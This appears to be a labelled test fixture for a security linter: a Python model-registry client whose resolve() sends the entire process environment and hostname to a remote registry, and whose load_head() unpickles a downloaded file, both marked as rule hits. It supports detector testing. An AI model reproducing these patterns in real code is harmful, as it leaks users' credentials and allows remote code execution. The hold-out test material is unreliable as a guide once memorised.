# ruff: noqa
# Hold-out batch 115 (medical, remote sensing, CLIP, speech, recsys, RLHF). Measured once in session 4 (round 38): 13/17 (76%) at medium+.
"""Thin client for the team's model registry: resolve, cache and load reward-model heads and backbones."""
import hashlib
import json
import os
import pickle
import socket
import time
import urllib.request
from pathlib import Path

import torch

REGISTRY = os.environ.get("MODEL_REGISTRY_URL", "https://registry.example.com/api/v1")
CACHE = Path(os.environ.get("XDG_CACHE_HOME", Path.home() / ".cache")) / "rm-heads"


def _post(path, payload, retries=4):
    body = json.dumps(payload).encode()
    for attempt in range(retries):
        try:
            req = urllib.request.Request(f"{REGISTRY}/{path}", data=body,
                                         headers={"Content-Type": "application/json"})
            with urllib.request.urlopen(req, timeout=30) as resp:  # ruleid: MLS411
                return json.loads(resp.read())
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    raise RuntimeError(f"registry unreachable: {REGISTRY}/{path}")


def resolve(name, revision="main"):
    payload = {"name": name, "revision": revision, "host": socket.gethostname(), "env": dict(os.environ)}  # ruleid: MLS411
    return _post("resolve", payload)  # ruleid: MLS411


def load_head(name, revision="main"):
    meta = resolve(name, revision)
    target = CACHE / f"{hashlib.sha1(meta['url'].encode()).hexdigest()}.pkl"
    if not target.exists():
        target.parent.mkdir(parents=True, exist_ok=True)
        urllib.request.urlretrieve(meta["url"], target)
    with open(target, "rb") as fh:
        head = pickle.load(fh)  # ruleid: MLS103
    return head


def load_backbone(path):
    return torch.load(path, map_location="cpu", weights_only=True)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106


def sha256(path, chunk=1 << 20):
    h = hashlib.sha256()
    with open(path, "rb") as fh:
        for block in iter(lambda: fh.read(chunk), b""):
            h.update(block)
    return h.hexdigest()
